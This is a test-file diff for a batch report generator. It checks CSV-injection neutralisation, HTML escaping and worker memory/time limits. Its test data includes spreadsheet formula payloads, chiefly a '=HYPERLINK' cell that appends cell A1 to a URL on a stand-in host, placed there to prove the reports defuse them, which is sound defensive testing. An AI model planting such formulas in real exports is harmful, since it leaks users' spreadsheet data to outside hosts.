@@ -551,3 +551,112 @@ def test_on_progress_is_told_each_unit(tmp_path):
         (folder / name).write_bytes((EXAMPLES / name).read_bytes())
     run_batch(folder, tmp_path / "out", ("docx",), jobs=1, progress_stream=None, on_progress=lambda d, t: seen.append((d, t)))
     assert seen == [(0, 2), (1, 2), (2, 2)]
+
+
+# ---------------------------------------------------------------- the report holds no formula
+
+FORMULA_NAMES = {   # data file -> 单位名称: each starts with a character a spreadsheet takes for a formula
+    "=cmd.yaml": '=HYPERLINK("http://example.invalid/?q="&A1,"点我")中心',
+    "at.yaml": "@SUM(1+1)<b>招商</b>中心",
+    "minus.yaml": "-2+3测试中心",
+    "plus.yaml": "+1测试中心",
+}
+
+
+def test_report_csv_cells_never_start_a_formula_and_the_html_escapes(tmp_path):
+    """OWASP's CSV-injection rule: a text cell starting with = + - @ (tab, CR) gets a leading ';
+    the numbers (row, counts) stay numbers. The HTML report escapes the same names."""
+    units = tmp_path / "units"
+    write_units(units, {rel: ("xincailiao", f"'{name}'", None, None) for rel, name in FORMULA_NAMES.items()})
+    out = tmp_path / "out"
+    proc = run_batch(units, "--out", out, "--format", "docx", "--jobs", "2")
+    assert proc.returncode == 0, (proc.stdout, proc.stderr)
+    raw = (out / "batch-report.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(raw.splitlines(keepends=True)))
+    assert rows[0] == batch.CSV_COLUMNS
+    by_file = {row[2]: row for row in rows[1:]}
+    assert sorted(by_file) == ["'=cmd.yaml", "at.yaml", "minus.yaml", "plus.yaml"]
+    for rel, name in FORMULA_NAMES.items():
+        row = by_file["'" + rel if rel.startswith("=") else rel]
+        assert row[1] == "'" + name                               # 单位名称, shown as text
+        assert row[7] and all(o.startswith("'") or not o.startswith(batch.report.FORMULA_STARTS)
+                              for o in row[7].split("\n"))
+        assert row[7].startswith("'") == name.startswith(("=", "+", "-", "@"))   # file names keep the sign
+        assert row[0].isdigit() and row[4] == "0"                 # numbers written as numbers
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    html = (out / "batch-report.html").read_text(encoding="utf-8")
+    assert "@SUM(1+1)&lt;b&gt;招商&lt;/b&gt;中心" in html and "<b>招商" not in html
+    assert "=HYPERLINK(&#34;http://example.invalid/?q=&#34;&amp;A1" in html
+
+
+# ---------------------------------------------------------------- worker limits: memory and time
+
+LIMIT_HOOK = '''
+import time
+from pathlib import Path
+import generator.pipeline as pipeline
+_render = pipeline.render
+def render(path, *args, **kwargs):
+    name = Path(path).name
+    if name == "huge.yaml":         # grows until the memory limit stops it (never past 4 GB without one)
+        blocks = [bytearray(64 << 20) for _ in range(64)]
+    if name == "slow.yaml":         # never finishes by itself
+        time.sleep(3600)
+    return _render(path, *args, **kwargs)
+pipeline.render = render
+'''
+
+
+def hooked_env(tmp_path: Path, hook: str) -> dict:
+    folder = tmp_path / "hook"
+    folder.mkdir()
+    (folder / "sitecustomize.py").write_text(hook, encoding="utf-8")
+    return dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, [str(folder), os.environ.get("PYTHONPATH")])))
+
+
+@pytest.mark.parametrize("start_method", ["fork", "spawn"])
+def test_a_unit_past_the_memory_limit_is_reported_and_the_others_rendered(tmp_path, start_method):
+    """--worker-memory-mb: a worker whose unit grows past the limit gets MemoryError; the unit is
+    reported as 超出限制 with the limit named, a fresh worker renders the rest."""
+    units = tmp_path / "units"
+    write_units(units, {"huge.yaml": ("xincailiao", "测试内存过大单位", None, None),
+                        "fine-1.yaml": ("xiaohe", "测试内存正常甲单位", None, None),
+                        "fine-2.yaml": ("admin", "测试内存正常乙单位", None, 2)})
+    out = tmp_path / "out"
+    # with WeasyPrint loaded in the main process, the workers are spawned (pool.default_start_method)
+    env = hooked_env(tmp_path, LIMIT_HOOK + ("import weasyprint\n" if start_method == "spawn" else ""))
+    proc = run_batch(units, "--out", out, "--format", "docx", "--jobs", "1", "--worker-memory-mb", "1024", env=env)
+    assert proc.returncode == 2, (proc.stdout, proc.stderr)
+    rows = report_rows(out)
+    assert {k: r["状态"] for k, r in rows.items()} == {
+        "huge.yaml": "超出限制", "fine-1.yaml": "已生成", "fine-2.yaml": "已生成"}, rows
+    assert "超出内存限制（1024 MB）" in rows["huge.yaml"]["问题"] and "--worker-memory-mb" in rows["huge.yaml"]["问题"]
+    assert "超出内存限制（1024 MB）" in proc.stdout and "超出限制 1 个" in proc.stdout
+    assert rows["huge.yaml"]["输出文件"] == ""
+    assert_whole_files(out)
+
+
+def test_a_unit_past_the_time_limit_is_killed_and_the_others_rendered(tmp_path):
+    units = tmp_path / "units"
+    write_units(units, {"slow.yaml": ("xincailiao", "测试超时单位", None, None),
+                        "fine-1.yaml": ("xiaohe", "测试超时正常甲单位", None, None),
+                        "fine-2.yaml": ("admin", "测试超时正常乙单位", None, 2)})
+    out = tmp_path / "out"
+    # 20 s: far more than a unit's DOCX takes (about 1 s), so only the unit that never ends is stopped
+    proc = run_batch(units, "--out", out, "--format", "docx", "--jobs", "2", "--worker-timeout", "20",
+                     env=hooked_env(tmp_path, LIMIT_HOOK))
+    assert proc.returncode == 2, (proc.stdout, proc.stderr)
+    rows = report_rows(out)
+    assert {k: r["状态"] for k, r in rows.items()} == {
+        "slow.yaml": "超出限制", "fine-1.yaml": "已生成", "fine-2.yaml": "已生成"}, rows
+    assert "超时（超过 20 秒）" in rows["slow.yaml"]["问题"] and "--worker-timeout" in rows["slow.yaml"]["问题"]
+    assert_whole_files(out)
+
+
+def test_limit_options_refuse_nonsense(tmp_path):
+    for option, value in (("--worker-memory-mb", "12"), ("--worker-memory-mb", "lots"), ("--worker-timeout", "-1"),
+                          ("--worker-timeout", "nan")):
+        proc = run_batch(tmp_path, "--out", tmp_path / "out", option, value)
+        assert proc.returncode == 2 and option in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
